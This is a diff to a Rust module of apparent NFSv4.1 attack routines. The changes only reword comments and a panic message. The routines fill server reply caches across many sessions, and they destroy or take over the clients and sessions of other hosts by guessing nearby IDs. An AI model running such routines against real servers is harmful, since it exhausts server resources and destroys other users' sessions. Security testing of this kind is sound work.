@@ -1,4 +1,4 @@
-//! Attacks on the state of NFSv4.1: reply caches, and the clients and sessions of others.
+//! Attacks on the state of NFSv4.1: reply caches, and the clients and sessions of other hosts.
 
 use std::{
     io::{self, Write},
@@ -17,11 +17,11 @@ use crate::{
     },
 };
 
-/// Replies of nearly 4 KiB, which the server keeps at most, for as many slots of as many sessions as there are.
+/// Fills the cached replies, of nearly 4 KiB, of as many slots of as many sessions as there are.
 pub fn reply_caches(target: &Target, stop: &Stop) -> io::Result<String> {
     let mut stream = connect(UNADMITTED, target.tcp)?;
     let (mut sessions, mut replies, mut bytes) = (0, 0u64, 0);
-    // TEST_STATEID answers a word for each stateid.
+    // TEST_STATEID returns one word for each stateid.
     let test = Xdr::default().u32(55).u32(STATEIDS).0;
     let stateids = vec![0; STATEIDS as usize * 16];
     for owner in 0..2000u32 {
@@ -47,7 +47,8 @@ pub fn reply_caches(target: &Target, stop: &Stop) -> io::Result<String> {
     Ok(format!("{sessions} sessions, {replies} replies of {} MiB in all", bytes >> 20))
 }
 
-/// One host makes clients and sessions, one after the other, while another destroys whatever has an id near its own.
+/// One host creates clients and sessions, one after the other, while another tries to destroy those with an ID near its
+/// own.
 pub fn stolen(target: &Target, stop: &Stop) -> io::Result<String> {
     let (done, guesses) = (AtomicBool::new(false), AtomicU64::new(0));
     let (made, lost) = thread::scope(|scope| {
@@ -58,7 +59,7 @@ pub fn stolen(target: &Target, stop: &Stop) -> io::Result<String> {
         let ended = victim(target, stop);
         done.store(true, Relaxed);
         for stranger in strangers {
-            stranger.join().expect("it does not panic");
+            stranger.join().expect("attacker must not panic");
         }
         ended
     })?;
@@ -72,7 +73,7 @@ pub fn stolen(target: &Target, stop: &Stop) -> io::Result<String> {
     Ok(format!("{made} sessions of another, {guesses} guesses"))
 }
 
-/// How often a client got its session, and how often it was destroyed before.
+/// Returns the number of created sessions, and of sessions that were destroyed before.
 fn victim(target: &Target, stop: &Stop) -> io::Result<(u64, u64)> {
     let mut stream = connect(ALSO_ADMITTED, target.tcp)?;
     let (mut made, mut lost) = (0, 0);
@@ -85,7 +86,7 @@ fn victim(target: &Target, stop: &Stop) -> io::Result<(u64, u64)> {
         let results = exchange(&mut stream, &v4::create_session(2, client, sequence))?;
         match v4::created(&results, client) {
             Some(session) => {
-                // It cannot be destroyed if it was made by another connection.
+                // A session that another connection has created cannot be destroyed here.
                 let destroyed = exchange(&mut stream, &v4::destroy_session(3, &session.id))?;
                 exchange(&mut stream, &v4::destroy_clientid(4, session.client))?;
                 if v4::status(&destroyed) == Some(0) { made += 1 } else { lost += 1 }
@@ -96,7 +97,7 @@ fn victim(target: &Target, stop: &Stop) -> io::Result<(u64, u64)> {
     Ok((made, lost))
 }
 
-/// Destroys the clients with the ids that follow that of a client of its own, or creates sessions for them.
+/// Destroys the clients with the IDs after that of its own client, or creates sessions for them.
 fn destroy(target: &Target, number: u8, done: &AtomicBool, guesses: &AtomicU64) -> io::Result<()> {
     let mut stream = connect(ADMITTED, target.tcp)?;
     while !done.load(Relaxed) {
@@ -118,5 +119,5 @@ fn destroy(target: &Target, number: u8, done: &AtomicBool, guesses: &AtomicU64) 
     Ok(())
 }
 
-/// With the tag of 512 bytes nearly 4 KiB.
+/// With the tag of 512 bytes, the reply has nearly 4 KiB.
 const STATEIDS: u32 = 840;
